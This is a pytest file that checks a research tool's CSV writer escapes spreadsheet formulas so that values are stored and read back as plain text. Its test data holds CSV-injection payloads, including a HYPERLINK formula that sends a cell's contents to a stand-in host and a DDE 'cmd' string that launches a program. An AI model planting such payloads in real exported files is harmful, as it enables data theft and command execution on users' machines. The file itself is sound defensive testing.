"""CSV files: what a spreadsheet would run as a formula is a text in them, numbers are numbers, and all is read back."""

import csv
from pathlib import Path

import hypothesis
import hypothesis.strategies as st
import pytest
import torch

from influence.pipelines import susceptibilities
from influence.pipelines.chains.examples import Example
from influence.pipelines.frame.outcome import as_cell, from_cell
from influence.pipelines.query import Hit, TextAnswer, check_record, record
from influence.sgmcmc.estimators.susceptibility import Susceptibility

FORMULAS = (
    '=HYPERLINK("http://x/"&A1,"y")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "=",
    "-",
    "'=1",
    "''@",
)
PLAIN = ("a = b", "1", "'twas", "", "(-1)", "naïve", "\n", "x\r\ny", '"', "–", " =1")


@hypothesis.given(st.text(st.sampled_from("'=+-@\t\r\nab1 \"") | st.characters(codec="utf-8"), max_size=8))
def test_a_text_is_read_back_as_it_was_and_begins_no_formula(text: str) -> None:
    cell = str(as_cell(text))
    assert from_cell(cell) == text
    assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r")
    assert cell == text or cell == f"'{text}"


@pytest.mark.parametrize("text", FORMULAS + PLAIN)
def test_recorded_answers(text: str, tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    hits = [Hit(-0.5, 3, None, text), Hit(1e-9, 4, 2, text)]
    for _ in range(2):
        record(path, [TextAnswer(text, 1.0, hits, hits[::-1])])
    with open(path, newline="", encoding="utf-8") as file:
        head, *rows = csv.reader(file)
    assert head == ["query", "direction", "rank", "score", "example", "position", "text"]
    assert len(rows) == 8
    for row in rows:
        assert [from_cell(row[0]), from_cell(row[-1])] == [text, text]
        assert row[0][:1] not in ("=", "+", "-", "@", "\t", "\r")
        assert float(row[3]) in (-0.5, 1e-9)  # a number, minus and all
    assert {row[0] for row in rows} == {text if text in PLAIN else f"'{text}"}


def test_saved_susceptibilities(tmp_path: Path) -> None:
    tokens = ("=1", "-", "ok", "@")
    value = torch.tensor([[[-1.0], [2.0], [-3.0], [4.0]]])
    found = Susceptibility(value, value, value, value.abs(), ["=evil"], torch.ones(1, 4, dtype=torch.bool))
    said = {"q": [Example("q", 0, "text", tokens, (0, 1, 2, 3))]}
    susceptibilities._save(str(tmp_path / "chi.csv"), {"q": found}, said)
    with open(tmp_path / "chi.csv", newline="", encoding="utf-8") as file:
        head, *rows = csv.reader(file)
    assert head[4:] == ["'=evil", "'=evil s.e."]
    assert [row[3] for row in rows] == ["'=1", "'-", "ok", "'@"]
    assert [from_cell(row[3]) for row in rows] == list(tokens)
    assert [float(row[4]) for row in rows] == [-1.0, 2.0, -3.0, 4.0]


def test_answers_are_put_behind_answers_alone(tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    check_record(path)
    record(path, [TextAnswer("q", 1.0, [Hit(1.0, 0, None, "a")], [])])
    check_record(path)
    path.write_text('{"text": "mine"}\n')
    with pytest.raises(FileExistsError, match="holds something else than results of queries"):
        check_record(path)
